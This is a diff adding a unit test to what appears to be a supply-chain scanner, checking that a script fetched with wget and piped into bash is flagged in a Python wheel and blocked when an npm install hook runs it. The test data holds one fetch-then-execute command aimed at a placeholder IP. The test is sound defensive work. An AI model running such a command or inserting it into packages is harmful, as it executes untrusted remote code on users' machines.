@@ -264,6 +264,15 @@ class Files(unittest.TestCase):
         self.assertIn("known-malware", rules(r, "block"))
         self.assertIn("install-script", rules(r))
 
+    def test_script_beside_modules(self):
+        # ultralytics has one: it fetches a data set and pipes a script into a shell, when somebody calls it.
+        fetches = b"wget -qO- https://192.0.2.1/prepare.sh | bash\n"
+        r = report(world.wheel(fresh("beside"), "demo", "1.0", {"demo/__init__.py": b"x = 1\n", "demo/get.sh": fetches}), code=1)
+        self.assertEqual((rules(r, "hold"), rules(r, "block")), ({"fetch-then-run"}, set()))
+        npm = world.tar(fresh("beside-npm") / "demo-1.0.0.tgz", {
+            "package/package.json": b'{"name":"demo","version":"1.0.0","scripts":{"install":"sh get.sh"}}', "package/get.sh": fetches})
+        self.assertIn("fetch-and-run", rules(report(npm, code=2), "block"))
+
     def test_npm_main_in_the_same_directory(self):
         # npm packs a file twice whose name in package.json begins with "./".
         source = b"module.exports = 1;\n"
